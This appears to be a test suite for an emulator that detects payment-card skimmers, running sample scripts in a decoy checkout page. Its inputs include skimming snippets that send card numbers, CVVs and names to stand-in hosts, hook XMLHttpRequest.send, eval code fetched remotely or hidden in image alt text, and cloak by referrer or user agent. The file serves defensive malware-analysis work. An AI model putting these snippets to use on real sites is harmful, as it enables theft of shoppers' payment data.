import assert from 'node:assert/strict';
import { eventsOf, flowsOf, requestsOf, run, seen } from './sandbox-of-tests.ts';
import { summarise } from '../../../analyzer/emulator/index.ts';

describe('emulator: the decoy world', () => {
  it('answers selectors of other shops with fitting fields', async () => {
    const flows = await flowsOf(
      "new Image().src = 'https://c.example/?' + document.querySelector('#stripe-card-number').value",
    );
    assert.deepEqual(
      flows.map(({ field }) => field),
      ['card-number'],
    );
  });

  it('finds fields by form, name and autocomplete token', async () => {
    const flows = await flowsOf(`
      var f = document.forms[0];
      fetch('https://c.example/', { method: 'POST', body: f['payment[cc_number]'].value + '&' + document.querySelector('[autocomplete=cc-csc]').value + '&'
        + document.getElementsByName('firstname')[0].value });`);
    assert.deepEqual(
      flows.map(({ field }) => field),
      ['card-cvv', 'card-number', 'name'],
    );
  });

  it('decodes entities through an element', async () => {
    assert.equal(
      await seen(
        "(function (t) { t.innerHTML = '&#104;&#x69;&amp;'; return t.value })(document.createElement('textarea'))",
      ),
      'hi&',
    );
  });

  it('sees that a frame is hidden or addressed only after it was put into the page', async () => {
    const late = [
      "var f = document.createElement('iframe'); f.width = 1; document.body.appendChild(f); f.src = 'https://f.example/'",
      "var f = document.createElement('iframe'); f.src = 'https://f.example/'; document.body.appendChild(f); f.style.display = 'none'",
    ];
    for (const text of late) {
      const inserts = eventsOf(await run(text), 'insert') as { url?: string; look?: string }[];
      assert.ok(
        inserts.some(({ url, look }) => url === 'https://f.example/' && look === 'hidden'),
        text,
      );
    }
  });

  it('calls a script that is one function without a name', async () => {
    const trace = await run("/* a handler */ function () { fetch('https://c.example/'); }");
    assert.deepEqual(
      requestsOf(trace).map(({ host }) => host),
      ['c.example'],
    );
  });

  it('reads addresses that were made harmless for a report', async () => {
    const trace = await run("fetch('hxxps://c[.]example/x')");
    assert.deepEqual(
      requestsOf(trace).map(({ url }) => url),
      ['https://c.example/x'],
    );
  });

  it('has elements that hold up to checks', async () => {
    assert.equal(
      await seen(`[document.createElement('input') instanceof HTMLInputElement, document.querySelector('form') instanceof HTMLFormElement,
        document.body.tagName, document.querySelectorAll('input').length > 5, typeof document.querySelector('input').getAttribute('name'),
        Object.prototype.toString.call(window), document.currentScript.tagName].join()`),
      'true,true,BODY,true,string,[object Window],SCRIPT',
    );
  });

  it('looks built in', async () => {
    assert.equal(
      await seen("[fetch, document.createElement, eval, setTimeout].map(String).join('|')"),
      'function fetch() { [native code] }|function createElement() { [native code] }|function eval() { [native code] }|function setTimeout() { [native code] }',
    );
  });

  it('says undefined for names that a script asks about', async () => {
    assert.equal(await seen('typeof someGuard + typeof window.someFlag'), 'undefinedundefined');
  });

  it('has developer tools closed, and nobody driving', async () => {
    assert.equal(
      await seen(
        '[outerWidth - innerWidth < 100, outerHeight - innerHeight < 160, navigator.webdriver].join()',
      ),
      'true,true,false',
    );
  });

  it('shows the frame of a payment service to who looks for one', async () => {
    const trace = await run(
      "setInterval(function () { var f = document.querySelector('iframe[src*=hosted]'); if (f) f.src = 'https://c.example/' }, 100)",
    );
    assert.deepEqual(trace.worlds, ['checkout', 'lenient']);
    assert.equal(requestsOf(trace)[0]?.host, 'c.example');
    assert.equal(eventsOf(trace, 'form-action').length > 0, true);
  });

  it('takes what is named like a hosted field for the frame that it is', async () => {
    const trace = await run(
      "var f = document.getElementById('braintree-hosted-field-cvv'); if (f.src.indexOf('#') < 1 && f.tagName == 'IFRAME') fetch('https://c.example/')",
    );
    assert.equal(requestsOf(trace)[0]?.host, 'c.example');
  });

  it('finds in markup what a script cuts out of it, where the page has it not', async () => {
    const flows = await flowsOf(`setTimeout(function () {
      var html = document.querySelector('.shipping-information').outerHTML;
      var city = html.match(/<!-- ko text: city -->([^<]*)<!-- .ko -->/)[1].trim();
      fetch('https://c.example/?' + city + document.querySelector('#cc_number').value);
    }, 500)`);
    assert.deepEqual(flows.map(({ field }) => field).sort(), ['card-number', 'city']);
  });

  it('sends what goes by the ancestor of XMLHttpRequest', async () => {
    const flows = await flowsOf(`
      var x; try { x = new ActiveXObject('Msxml2.XMLHTTP') } catch (e) { x = new XMLHttpRequest() }
      x.open('POST', 'https://c.example/'); x.send(document.querySelector('#cc_number').value);`);
    assert.deepEqual(
      flows.map(({ transport }) => transport),
      ['xhr'],
    );
  });

  it('runs what stands behind a statement that fails for want of the page it was made for', async () => {
    const trace = await run(`
      var slides = document.querySelector('.carousel'); slides.carousel.start();
      (function () { nothing.here() })();
      fetch('https://c.example/');`);
    assert.equal(trace.world, 'lenient');
    assert.deepEqual(
      requestsOf(trace).map(({ host }) => host),
      ['c.example'],
    );
  });

  it('shows other visitors, too, what stands behind a statement that fails', async () => {
    const trace = await run(`
      var slides = document.querySelector('.carousel'); slides.carousel.start();
      if (document.referrer.indexOf('google') > 0) fetch('https://c.example/');`);
    assert.equal(trace.world, 'search-referrer');
    assert.deepEqual(
      requestsOf(trace).map(({ host }) => host),
      ['c.example'],
    );
  });

  it('finds code in the description of a picture', async () => {
    for (const take of ["split(':')[1]", 'slice(4)', "replace('x', '')"]) {
      const trace = await run(`eval(atob(document.querySelector('img').alt.${take}))`);
      assert.equal(summarise(trace).runsRemoteCode, true, take);
    }
  });

  it('names replaced built-ins and shows what they catch', async () => {
    const trace = await run(`
      var real = XMLHttpRequest.prototype.send;
      XMLHttpRequest.prototype.send = function (b) { new Image().src = 'https://c.example/?' + btoa(b); return real.apply(this, arguments) };`);
    const { hooks, flows } = summarise(trace);
    assert.deepEqual(hooks, ['XMLHttpRequest.send']);
    assert.ok(flows.some(({ field }) => field === 'card-number'));
  });

  it('records wallets, workers, WebAssembly and the clipboard', async () => {
    const trace = await run(`
      ethereum.request({ method: 'eth_sendTransaction', params: [{ to: '0x0' }] });
      new Worker(URL.createObjectURL(new Blob(['onmessage = 1']))); WebAssembly.instantiate(new Uint8Array(8));
      navigator.clipboard.writeText('powershell -e x');`);
    for (const kind of ['wallet', 'worker', 'wasm', 'clipboard'] as const)
      assert.notEqual(eventsOf(trace, kind).length, 0, kind);
  });

  it('tries other worlds when a script hides from the first', async () => {
    const trace = await run(
      "if (/google/.test(document.referrer)) location.href = 'https://redirect.example/'",
    );
    assert.ok(trace.worlds.includes('search-referrer'));
    assert.equal(requestsOf(trace)[0]?.host, 'redirect.example');
  });

  const gates: [visitor: string, world: string, script: string][] = [
    [
      'a new visitor from a search engine',
      'search-referrer',
      '/google/.test(document.referrer) && !document.cookie',
    ],
    ['a phone', 'phone', '/Mobile/.test(navigator.userAgent)'],
    ['an old browser', 'old-browser', '/MSIE/.test(navigator.userAgent)'],
  ];
  for (const [visitor, world, gate] of gates)
    it(`is ${visitor} for who acts for such only`, async () => {
      const trace = await run(`if (${gate}) location.href = 'https://redirect.example/'`);
      assert.equal(trace.world, world);
      assert.equal(requestsOf(trace)[0]?.host, 'redirect.example');
    });

  it('has servers that answer what a script looks for', async () => {
    const trace = await run(
      "fetch('https://x.example/').then(function (r) { return r.text() }).then(function (t) { if (t.indexOf('go:') >= 0) eval(t) })",
    );
    assert.equal(trace.world, 'willing-server');
    assert.ok(summarise(trace).runsRemoteCode);
  });

  it('answers a loader in a script that sends forms to the shop itself', async () => {
    const trace = await run(`
      document.querySelector('form').addEventListener('submit', function () {
        fetch('/newsletter', { method: 'POST', body: document.querySelector('#customer-email').value });
      });
      var x = new XMLHttpRequest(); x.open('GET', 'https://c.example/');
      x.onload = function () { if (x.responseText.indexOf('mark') >= 0) eval(x.responseText) }; x.send();`);
    assert.equal(summarise(trace).runsRemoteCode, true);
  });

  it('shows scripts their own source', async () => {
    assert.equal(await seen("document.currentScript.innerHTML.includes('ownsource' + 'mark')"), 'false');
    assert.equal(await seen("document.currentScript.innerHTML.includes('document.currentScript')"), 'true');
  });

  it('says what a person would see of frames', async () => {
    const trace = await run(`
      var f = document.createElement('iframe'); f.src = 'https://a.example/'; f.style.width = '1px'; document.body.appendChild(f);
      var g = document.createElement('iframe'); g.src = 'https://b.example/'; g.style.cssText = 'position:fixed;width:100%;height:100%;z-index:9999'; document.body.appendChild(g);
      var h = document.createElement('iframe'); h.src = 'https://c.example/'; document.body.appendChild(h);`);
    assert.deepEqual(
      eventsOf(trace, 'insert').map((event) => ('look' in event ? event.look : undefined)),
      ['hidden', 'cover', undefined],
    );
  });

  it('calls what packages for Node.js export', async () => {
    const trace = await run("module.exports = function () { fetch('https://x.example/') };");
    assert.equal(requestsOf(trace)[0]?.host, 'x.example');
  });

  it('knows what Prototype gives a shop', async () => {
    const flows = await flowsOf(
      "new Ajax.Request('https://c.example/', { method: 'post', parameters: Form.serialize(payment.form) }); $$('head')[0].appendChild(new Element('script', { src: 'https://d.example/' }))",
    );
    assert.ok(flows.some(({ field, host }) => field === 'card-number' && host === 'c.example'));
  });

  it('lists strings that were decoded and never used', async () => {
    const trace = await run("var s = 'elpmaxe.terces//:sptth'.split('').reverse().join('');");
    assert.ok(trace.decoded.some((text) => text.includes('https://secret.example')));
  });
});
